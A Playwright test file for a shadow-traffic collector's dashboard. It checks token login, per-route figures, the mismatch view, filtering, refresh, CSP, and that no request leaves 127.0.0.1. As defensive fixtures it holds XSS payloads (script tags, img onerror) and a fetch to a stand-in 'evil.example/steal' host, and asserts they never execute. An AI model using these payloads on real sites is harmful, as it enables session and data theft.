// The built-in dashboard (GET /) in real headless Chromium (Debian's chromium,
// driven by playwright-core): it loads with data behind --read-token, shows every
// route, opens a mismatch side by side, never runs a recorded script, asks for
// nothing outside 127.0.0.1, refreshes in place, and leaves a screenshot in build/.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { chromium, type BrowserContext } from 'playwright-core';
import { post, rec, ROOT, startCollector, tempDir } from './helpers.js';
import { feedback, send, writeConfig } from './decision-helpers.js';

const READ = 'r3ad-token';
const WRITE = 'wr1te';
const XSS_ROUTE = '<img src=x onerror="window.__pwned=\'route\'">';
const XSS_BODY = '{"html":"<script>window.__pwned=\'script\'</script><img src=x onerror=\\"window.__pwned=\'img\';fetch(\'http://evil.example/steal\')\\">","n":1}';

declare global {
  interface Window {
    __pwned?: string;
    __csp?: string[];
    __marker?: number;
  }
}

function records(from: number, to: number): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  for (let i = from; i < to; i++) {
    const label = i % 2;
    const pBody = JSON.stringify({ label, score: 0.25 + (i % 10) / 20, meta: { t: i } });
    const sBody = JSON.stringify({ label: i % 5 === 0 ? 1 - label : label, score: 0.25 + (i % 10) / 20, meta: { t: i % 3 === 0 ? i + 1 : i } });
    out.push(rec({ id: `p${i}`, role: 'production', route: 'predict', latency_ms: 5 + (i % 17), response_body: pBody }));
    out.push(rec({ id: `p${i}`, role: 'shadow', route: 'predict', latency_ms: 6 + (i % 23), status: i % 11 === 0 ? 503 : 200, response_body: sBody }));
    // A baseline copy of every predict request: meta/t differs from it as often as from the shadow.
    const bBody = JSON.stringify({ label, score: 0.25 + (i % 10) / 20, meta: { t: i % 3 === 1 ? i + 1 : i } });
    out.push(rec({ id: `p${i}`, role: 'baseline', route: 'predict', latency_ms: 5, response_body: bBody }));
    out.push(rec({ id: `s${i}`, role: 'production', route: 'search', latency_ms: 40 + (i % 7), response_body: `{"hits":[${i}]}` }));
    out.push(rec({ id: `s${i}`, role: 'shadow', route: 'search', latency_ms: 50 + (i % 9), response_body: `{"hits":[${i}]}` }));
  }
  return out;
}

test('dashboard: real Chromium against the real collector', async (t) => {
  const dir = tempDir(t);
  const cfg = writeConfig(dir, { routes: { predict: { prediction: { label: '/label', score: '/score' }, noise: { min_triples: 10 } } } });
  const c = await startCollector(['--db', join(dir, 'c.db'), '--config', cfg, '--token', WRITE, '--read-token', READ], t);
  const w = { token: WRITE };
  assert.equal((await post(c.url, records(0, 60), w)).json.rejected, 0);
  // A recorded answer that is markup, on a route whose name is markup too.
  const xss = [
    rec({ id: 'x1', role: 'production', route: XSS_ROUTE, response_body: '{"html":"fine","n":1}' }),
    rec({ id: 'x1', role: 'shadow', route: XSS_ROUTE, response_body: XSS_BODY }),
  ];
  assert.equal((await post(c.url, xss, w)).json.accepted, 2);
  assert.equal((await feedback(c.url, Array.from({ length: 30 }, (_, i) => ({ id: `p${i}`, label: i % 3 === 0 ? 1 : 0 })), w)).status, 200);
  assert.equal((await send(c.url, 'PUT', '/v1/control', { sample_percent: { predict: 25 } }, w)).status, 200);
  const verdictOf = async (route?: string): Promise<{ decision: string; reasons: { criterion: string }[] }> =>
    (await send(c.url, 'GET', route === undefined ? '/v1/verdict' : `/v1/verdict?route=${encodeURIComponent(route)}`, undefined, { token: READ })).json;

  await t.test('GET / and its assets: strict CSP, no token needed for assets, 401 page without the token', async () => {
    const page = await fetch(`${c.url}/`);
    assert.equal(page.status, 401);
    assert.match(page.headers.get('content-type') ?? '', /^text\/html/);
    const csp = page.headers.get('content-security-policy') ?? '';
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /script-src 'self'(;|$)/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|https?:/);
    const html = await page.text();
    assert.match(html, /<script src="\/ui\/app.js" type="module">/);
    // The page carries no data: it is the static file, whoever asks.
    assert.equal(html, readFileSync(join(ROOT, 'src/collector/dashboard/ui/index.html'), 'utf8'));
    assert.equal((await fetch(`${c.url}/`, { headers: { authorization: `Bearer ${READ}` } })).status, 200);
    for (const [path, type] of [['/ui/app.js', 'text/javascript'], ['/ui/app.css', 'text/css'], ['/ui/uPlot.iife.min.js', 'text/javascript'], ['/ui/uPlot.min.css', 'text/css']]) {
      const r = await fetch(`${c.url}${path!}`);
      assert.equal(r.status, 200, path);
      assert.ok((r.headers.get('content-type') ?? '').startsWith(type!), path);
      assert.ok((await r.arrayBuffer()).byteLength > 1000, path);
    }
  });

  const userData = mkdtempSync(join(tmpdir(), 'shadowmesh-chromium-'));
  t.after(() => rmSync(userData, { recursive: true, force: true }));
  let context: BrowserContext | undefined;
  t.after(async () => {
    await context?.close();
  });
  context = await chromium.launchPersistentContext(userData, {
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
    viewport: { width: 1400, height: 1000 },
  });
  const requested: string[] = [];
  await context.route('**/*', (route) => {
    const url = route.request().url();
    requested.push(url);
    return new URL(url).hostname === '127.0.0.1' ? route.continue() : route.abort();
  });
  const page = context.pages()[0] ?? (await context.newPage());
  const consoleErrors: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error') consoleErrors.push(m.text());
  });
  page.on('pageerror', (e) => consoleErrors.push(String(e)));
  const failed: string[] = [];
  page.on('response', (r) => {
    if (r.status() >= 400) failed.push(`${r.status()} ${new URL(r.url()).pathname}`);
  });
  let navigations = 0;
  page.on('framenavigated', (f) => {
    if (f === page.mainFrame()) navigations++;
  });
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__csp!.push(`${e.violatedDirective} ${e.blockedURI}`));
  });

  await t.test('the page asks for the read token, then shows every route with its figures', async () => {
    const res = await page.goto(`${c.url}/`);
    assert.equal(res?.status(), 401);
    await page.locator('#login').waitFor({ state: 'visible' });
    await page.fill('#token', 'wrong');
    await page.click('#login button[type=submit]');
    await page.locator('#login-error', { hasText: 'not accepted' }).waitFor();
    await page.fill('#token', READ);
    await page.click('#login button[type=submit]');
    await page.locator('.route').nth(2).waitFor();
    const names = await page.locator('.route .route-name').allTextContents();
    assert.deepEqual(names.sort(), [XSS_ROUTE, 'predict', 'search'].sort());
    const predict = page.locator('.route[data-route="predict"]');
    assert.equal(await predict.locator('.figure.pairs .value').textContent(), '60');
    assert.equal(await page.locator('.route[data-route="search"] .figure.match-rate .value').textContent(), '100.00%');
    assert.match((await predict.locator('.figure.adjusted-match-rate .value').textContent()) ?? '', /%$/);
    // Verdict badge with its reasons, control, latency table and chart, errors, fields, model and feedback.
    const v = await verdictOf('predict');
    assert.equal(await predict.locator('.badge').textContent(), v.decision);
    assert.deepEqual(await predict.locator('table.reasons tbody tr td:first-child').allTextContents(), v.reasons.map((r) => r.criterion));
    assert.ok(v.reasons.length >= 2);
    assert.equal(await page.locator('#overall .badge').textContent(), (await verdictOf()).decision);
    assert.match((await page.locator('#control').textContent()) ?? '', /predict → 25%/);
    assert.match((await predict.locator('table.latency').textContent()) ?? '', /production[\d.]+ ms[\d.]+ ms[\d.]+ msshadow[\d.]+ ms/);
    assert.match((await predict.locator('table.errors').textContent()) ?? '', /shadow6/);
    assert.equal(await predict.locator('.chart canvas').count(), 1);
    // /meta/t is learned as noise: listed under noise paths, no longer under differing fields.
    assert.match((await predict.locator('table.noise').textContent()) ?? '', /^pathbaseline diffsshadow diffstriples\/meta\/t\d+\d+60$/);
    assert.doesNotMatch((await predict.locator('table.fields').textContent()) ?? '', /\/meta\/t/);
    assert.match((await predict.locator('table.fields').textContent()) ?? '', /\/label/);
    const adjusted = Number(((await predict.locator('.figure.adjusted-match-rate .value').textContent()) ?? '').replace('%', ''));
    const plain = Number(((await predict.locator('.figure.match-rate .value').textContent()) ?? '').replace('%', ''));
    assert.ok(adjusted > plain, `${adjusted} > ${plain}`);
    assert.match((await predict.textContent()) ?? '', /Label confusion/);
    assert.match((await predict.textContent()) ?? '', /McNemar p/);
    assert.match((await predict.locator('.feedback').textContent()) ?? '', /labelled pairs30/);
    assert.doesNotMatch((await page.locator('.route[data-route="search"]').textContent()) ?? '', /Label confusion/);
    // The token lives in this tab's sessionStorage only.
    assert.equal(await page.evaluate(() => sessionStorage.getItem('shadowmesh.readToken')), READ);
    assert.equal(await page.evaluate(() => localStorage.length), 0);
    assert.equal(await page.evaluate(() => document.cookie), '');
  });

  await t.test('a click on a mismatch opens both bodies with the differing paths highlighted', async () => {
    const predict = page.locator('.route[data-route="predict"]');
    const first = predict.locator('.open-pair').first();
    const id = (await first.textContent())!;
    await first.click();
    const dialog = page.locator('#pair-view');
    await dialog.waitFor({ state: 'visible' });
    assert.match((await page.locator('#pair-title').textContent()) ?? '', new RegExp(`pair ${id} `));
    const prod = (await dialog.locator('.side.production pre').textContent()) ?? '';
    const shadow = (await dialog.locator('.side.shadow pre').textContent()) ?? '';
    assert.match(prod, /"label": [01]/);
    assert.match(shadow, /"label": [01]/);
    assert.notEqual(prod, shadow);
    const marked = await dialog.locator('.side.shadow .diff').evaluateAll((els) => els.map((e) => e.getAttribute('data-path')).filter((p) => p !== null));
    const diffs = (await dialog.locator('#pair-diffs li').allTextContents()).map((d) => d.replace(/^\w+ at /, ''));
    assert.ok(diffs.length > 0);
    assert.deepEqual([...new Set(marked)].sort(), [...diffs].sort());
    await page.click('#pair-close');
    await dialog.waitFor({ state: 'hidden' });
  });

  await t.test('a recorded <script> or onerror never runs; it is shown as text', async () => {
    const card = page.locator('.route').filter({ has: page.locator('.route-name', { hasText: 'onerror' }) });
    await card.locator('.open-pair').first().click();
    const shadow = page.locator('#pair-view .side.shadow pre');
    await shadow.waitFor();
    assert.match((await shadow.textContent()) ?? '', /<script>window.__pwned='script'<\/script><img src=x onerror=/);
    assert.equal(await page.locator('#pair-view img, #routes img, #pair-view script, #routes script').count(), 0);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    await page.click('#pair-close');
  });

  await t.test('the filter narrows the routes shown', async () => {
    await page.fill('#filter', 'sea');
    await page.locator('.route').nth(1).waitFor({ state: 'detached' });
    assert.deepEqual(await page.locator('.route .route-name').allTextContents(), ['search']);
    assert.match((await page.locator('#shown').textContent()) ?? '', /Showing 1 of 3 routes/);
    await page.fill('#filter', '');
    await page.locator('.route').nth(2).waitFor();
  });

  await t.test('it refreshes itself in place', async () => {
    await page.evaluate(() => (window.__marker = 42));
    const before = Number(await page.evaluate(() => document.body.dataset.refreshes));
    assert.equal((await post(c.url, records(60, 80), w)).json.rejected, 0);
    await page.locator('.route[data-route="predict"] .figure.pairs .value', { hasText: /^80$/ }).waitFor({ timeout: 20_000 });
    assert.ok(Number(await page.evaluate(() => document.body.dataset.refreshes)) > before);
    assert.equal(await page.evaluate(() => window.__marker), 42);
    assert.equal(navigations, 1);
  });

  await t.test('no request left 127.0.0.1; no CSP violation, no script error; a screenshot in build/', async () => {
    mkdirSync(join(ROOT, 'build'), { recursive: true });
    const shot = join(ROOT, 'build', 'dashboard.png');
    await page.screenshot({ path: shot, fullPage: true });
    assert.ok(requested.length >= 6, requested.join('\n'));
    for (const url of requested) assert.match(url, /^http:\/\/127\.0\.0\.1:\d+\//, url);
    assert.ok(requested.some((u) => u.endsWith('/ui/uPlot.iife.min.js')));
    assert.deepEqual(await page.evaluate(() => window.__csp), []);
    // Failed loads: only the 401s of the sign-in (GET / and the reads before the token).
    for (const f of failed) assert.match(f, /^401 \/(v1\/stats)?$/, f);
    assert.ok(failed.includes('401 /'));
    assert.deepEqual(consoleErrors.filter((e) => !/^Failed to load resource: the server responded with a status of 401/.test(e)), []);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
  });
  await context.close();
  context = undefined;
  assert.equal(await c.stop(), 0);
});
